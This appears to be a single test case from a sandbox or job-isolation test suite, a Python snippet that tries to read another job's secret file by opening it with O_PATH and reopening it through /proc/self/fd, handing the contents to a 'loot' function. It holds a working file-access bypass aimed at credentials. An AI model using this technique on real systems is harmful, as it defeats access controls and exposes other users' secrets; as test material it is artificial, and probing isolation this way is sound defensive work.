# kind: other_jobs
# tries: O_PATH descriptors and /proc/self/fd

import os

fd = os.open(VICTIM["secret"], os.O_PATH)
loot(os.read(os.open(f"/proc/self/fd/{fd}", os.O_RDONLY), 200).decode())
